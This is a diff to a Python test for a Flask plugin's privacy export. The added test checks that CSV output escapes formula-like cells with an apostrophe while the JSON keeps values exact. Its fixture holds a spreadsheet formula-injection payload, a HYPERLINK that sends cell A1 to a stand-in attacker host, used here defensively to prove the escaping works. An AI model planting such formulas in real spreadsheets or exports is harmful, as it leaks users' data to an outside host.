@@ -13,7 +13,7 @@ from flask import Flask
 from sqlalchemy import select
 
 from plugin.db import Base, session_scope
-from plugin.models import Person, StatementSubject
+from plugin.models import LeaderLedRecord, Person, StatementSubject
 from plugin.services.privacy.export import export_person
 from plugin.services.privacy.registry import REGISTRY
 
@@ -125,3 +125,20 @@ def test_csv_has_a_header_and_a_line_per_row(privacy_app: Flask, org: Org) -> No
     assert len(rows) - 1 == len(document["tables"]["leader_led_record"])
     details = rows[0].index("details")
     assert all(json.loads(line[details]) is not None for line in rows[1:])
+
+
+def test_csv_text_never_runs_as_a_formula_while_the_json_keeps_it_exact(
+    privacy_app: Flask, org: Org
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with session_scope(privacy_app) as session:  # a title Ada typed, in Bo's export
+        session.get_one(LeaderLedRecord, org.records["coaching"]).title = formula
+    document, archive = _export(privacy_app, org.people["bo"])
+    rows = list(csv.DictReader(io.StringIO(archive.read("tables/leader_led_record.csv").decode())))
+    titles = {int(row["id"]): row["title"] for row in rows}
+    assert titles[org.records["coaching"]] == "'" + formula
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    exact = {row["id"]: row["title"] for row in document["tables"]["leader_led_record"]}
+    assert exact[org.records["coaching"]] == formula
+    assert "apostrophe" in archive.read("README.txt").decode()
